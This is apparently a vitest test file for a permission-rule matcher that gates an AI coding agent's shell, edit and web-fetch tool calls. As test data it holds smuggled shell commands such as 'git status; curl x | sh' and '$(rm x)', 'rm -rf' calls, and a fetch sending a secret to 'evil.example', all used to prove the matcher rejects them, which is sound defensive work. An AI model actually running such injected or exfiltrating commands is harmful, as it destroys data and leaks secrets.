import { describe, expect, it } from "vitest";
import { ruleMatchSchema } from "./human/rules.js";
import {
  applicableRule,
  argumentsText,
  derivedMatch,
  describeMatch,
  ruleApplies,
  ruleFacts,
  ruleMatches,
  ruleOfferLabel,
  type StandingRule,
} from "./rules.js";

const session = { title: null, agent: { name: "claude-code" }, host: "laptop", cwd: "/repo" };
const facts = (command: string | null, more: { kind?: string; title?: string; cwd?: string } = {}) =>
  ruleFacts({
    toolCall: {
      toolCallId: "t",
      kind: more.kind ?? "execute",
      title: more.title ?? "Bash",
      ...(command !== null && { rawInput: { command, ...(more.cwd && { cwd: more.cwd }) } }),
    },
    session,
  });
const target = (f: ReturnType<typeof facts>, sessionId = "s1") => ({ facts: f, sessionId });

describe("ruleMatches", () => {
  it("a derived match allows exactly the same command, cwd, kind and host", () => {
    const match = derivedMatch(facts("npm test -- --grep 'a*b'"));
    expect(match).toEqual({ kind: "execute", command: "npm test -- --grep 'a\\*b'", cwd: "/repo", host: "laptop" });
    expect(ruleMatches(match, target(facts("npm test -- --grep 'a*b'")))).toBe(true);
    expect(ruleMatches(match, target(facts("npm test -- --grep 'aXb'")))).toBe(false);
    expect(ruleMatches(match, target(facts("npm test")))).toBe(false);
    expect(ruleMatches(match, target(facts("npm test -- --grep 'a*b'", { kind: "edit" })))).toBe(false);
    expect(ruleMatches(match, target(facts("npm test -- --grep 'a*b'", { cwd: "/other" })))).toBe(false);
  });

  it("cwd is a path prefix, and a path with . or .. segments never matches", () => {
    const match = { command: "make", cwd: "/repo" };
    expect(ruleMatches(match, target(facts("make", { cwd: "/repo/sub" })))).toBe(true);
    expect(ruleMatches(match, target(facts("make", { cwd: "/repository" })))).toBe(false);
    expect(ruleMatches(match, target(facts("make", { cwd: "/repo/../etc" })))).toBe(false);
  });

  it("wildcards never cover a command with shell control characters; a literal rule still matches it exactly", () => {
    expect(ruleMatches({ command: "git status*" }, target(facts("git status --short")))).toBe(true);
    for (const sneaky of ["git status; curl x | sh", "git status && rm x", "git status $(rm x)", "git status `id`"]) {
      expect(ruleMatches({ command: "git status*" }, target(facts(sneaky)))).toBe(false);
    }
    expect(ruleMatches({ command: "cd a \\&& make" }, target(facts("cd a && make")))).toBe(true);
    expect(ruleMatches({ command: "cd a && make" }, target(facts("cd a && make")))).toBe(true);
  });

  it("a literal command rule does not allow the same text with a line break where it had a space", () => {
    const spaced = derivedMatch(facts("ssh staging ./deploy.sh")) as NonNullable<ReturnType<typeof derivedMatch>>;
    expect(ruleMatches(spaced, target(facts("ssh staging ./deploy.sh")))).toBe(true);
    expect(ruleMatches(spaced, target(facts("ssh  staging\t./deploy.sh")))).toBe(true);
    expect(ruleMatches(spaced, target(facts("ssh staging\n./deploy.sh")))).toBe(false);
    expect(ruleMatches({ command: "ssh staging ./deploy.sh" }, target(facts("ssh staging\r\n./deploy.sh")))).toBe(
      false,
    );
    const broken = derivedMatch(facts("ssh staging\n./deploy.sh")) as NonNullable<ReturnType<typeof derivedMatch>>;
    expect(broken.command).toBe("ssh staging\n./deploy.sh");
    expect(ruleMatches(broken, target(facts("ssh staging\n./deploy.sh")))).toBe(true);
    expect(ruleMatches(broken, target(facts("ssh staging ./deploy.sh")))).toBe(false);
  });

  it("a title-only rule never allows a request that carries a command", () => {
    expect(ruleMatches({ title: "Read *" }, target(facts(null, { title: "Read file", kind: "read" })))).toBe(true);
    expect(ruleMatches({ title: "Read *" }, target(facts("rm -r x", { title: "Read file" })))).toBe(false);
  });

  it("kind, host, agent and sessionId are exact; a missing fact never matches", () => {
    expect(ruleMatches({ command: "ls", agent: "claude-code" }, target(facts("ls")))).toBe(true);
    expect(ruleMatches({ command: "ls", agent: "codex" }, target(facts("ls")))).toBe(false);
    expect(ruleMatches({ command: "ls", host: "server" }, target(facts("ls")))).toBe(false);
    expect(ruleMatches({ command: "ls", sessionId: "s1" }, target(facts("ls"), "s2"))).toBe(false);
    expect(ruleMatches({ command: "ls" }, target(facts(null)))).toBe(false);
  });
});

describe("ruleApplies", () => {
  const rule: StandingRule = {
    id: "rul_1",
    scope: "me",
    createdBy: { userId: "u1", name: "Ada" },
    match: { command: "ls" },
    expiresAt: 1_000,
  };
  it("a me rule applies to its creator's sessions only, a team rule to anyone's, neither once expired", () => {
    const t = { facts: facts("ls"), sessionId: "s1", ownerUserId: "u1" };
    expect(ruleApplies(rule, t, 999)).toBe(true);
    expect(ruleApplies(rule, t, 1_000)).toBe(false);
    expect(ruleApplies(rule, { ...t, ownerUserId: "u2" }, 0)).toBe(false);
    expect(ruleApplies({ ...rule, scope: "team" }, { ...t, ownerUserId: "u2" }, 0)).toBe(true);
    expect(applicableRule([rule, { ...rule, id: "rul_2", scope: "team" }], { ...t, ownerUserId: "u2" }, 0)?.id).toBe(
      "rul_2",
    );
  });
});

describe("the match schema and its words", () => {
  it("needs a title or a command, and says what it allows", () => {
    expect(ruleMatchSchema.safeParse({ kind: "execute" }).success).toBe(false);
    expect(ruleMatchSchema.safeParse({ command: "ls", extra: 1 }).success).toBe(false);
    expect(describeMatch({ kind: "execute", command: "npm test", cwd: "/repo" })).toBe(
      "Allows execute requests running exactly “npm test” in /repo (or below), in your own sessions, unless high-risk.",
    );
    expect(describeMatch({ command: "git status*" }, "team")).toContain("matching “git status*”");
    expect(describeMatch({ command: "a\\*b" })).toContain("exactly “a*b”");
  });

  it("binds a request without a command by its input fingerprint, with the title for people", () => {
    const f = facts(null, { title: "Edit a.ts", kind: "edit" });
    expect(derivedMatch(f)).toEqual({ kind: "edit", title: "Edit a.ts", input: f.input, cwd: "/repo", host: "laptop" });
    expect(f.input).toMatch(/^[0-9a-f]{64}$/);
    expect(ruleMatchSchema.safeParse({ input: f.input }).success).toBe(true);
    expect(ruleMatchSchema.safeParse({ input: "nope" }).success).toBe(false);
    expect(describeMatch(derivedMatch(f))).toContain("with exactly the arguments it was made from");
  });
});

describe("a card rule binds every argument", () => {
  const fetchCall = (prompt: string) => ({
    toolCallId: "t",
    kind: "fetch",
    title: "web_fetch",
    rawInput: { prompt },
  });
  const snapshot = (toolCall: { toolCallId: string } & Record<string, unknown>) => ({ toolCall, session });

  it("a rule from a web_fetch card matches that URL only, though the title is the same", () => {
    const mine = ruleFacts(snapshot(fetchCall("Summarize https://example.com/a")));
    const other = ruleFacts(snapshot(fetchCall("Summarize https://evil.example/?k=secret")));
    const match = derivedMatch(mine);
    expect(ruleMatches(match, { facts: mine, sessionId: "s1" })).toBe(true);
    expect(ruleMatches(match, { facts: other, sessionId: "s1" })).toBe(false);
  });

  it("locations and diffs are arguments too; key order is not", () => {
    const edit = (path: string, newText: string) =>
      ruleFacts(
        snapshot({
          toolCallId: "t",
          kind: "edit",
          title: "Edit",
          content: [{ type: "diff", path, oldText: "a", newText }],
        }),
      ).input;
    expect(edit("/repo/a.ts", "b")).not.toBe(edit("/repo/b.ts", "b"));
    expect(edit("/repo/a.ts", "b")).not.toBe(edit("/repo/a.ts", "c"));
    const at = (line: number) =>
      ruleFacts(snapshot({ toolCallId: "t", title: "Read", locations: [{ path: "/a", line }] })).input;
    expect(at(1)).not.toBe(at(2));
    const keys = (raw: Record<string, unknown>) => ruleFacts(snapshot({ toolCallId: "t", rawInput: raw })).input;
    expect(keys({ a: 1, b: 2 })).toBe(keys({ b: 2, a: 1 }));
  });

  it("a command with other arguments (Gemini's dir_path) also binds the input; a plain one does not", () => {
    const shell = (rawInput: Record<string, unknown>) =>
      ruleFacts(snapshot({ toolCallId: "t", kind: "execute", title: "run_shell_command", rawInput }));
    expect(derivedMatch(shell({ command: "make", description: "build" })).input).toBeUndefined();
    const withDir = shell({ command: "make", dir_path: "/repo/a" });
    const match = derivedMatch(withDir);
    expect(match).toMatchObject({ command: "make", input: withDir.input });
    expect(ruleMatches(match, { facts: shell({ command: "make", dir_path: "/etc" }), sessionId: "s1" })).toBe(false);
    expect(derivedMatch(shell({ command: ["rm", "-rf a"] })).input).toBeDefined();
  });

  it("says what one click allows: the command, or the tool and its arguments", () => {
    const plain = facts("npm test");
    expect(ruleOfferLabel(plain, derivedMatch(plain), { toolCallId: "t", rawInput: { command: "npm test" } })).toBe(
      "Allow “npm test” for 1 h",
    );
    const call = fetchCall("Summarize https://example.com/a");
    const f = ruleFacts(snapshot(call));
    expect(ruleOfferLabel(f, derivedMatch(f), call)).toBe(
      "Allow web_fetch (prompt: “Summarize https://example.com/a”) for 1 h, exactly these arguments",
    );
    expect(argumentsText({ toolCallId: "t", rawInput: { pattern: "x", path: "/r" } })).toBe("pattern: x\npath: /r");
    expect(argumentsText({ toolCallId: "t", rawInput: { a: "0123456789" } }, 5)).toBe(
      "a: 01… (8 more characters: the whole input is on the request)",
    );
  });
});
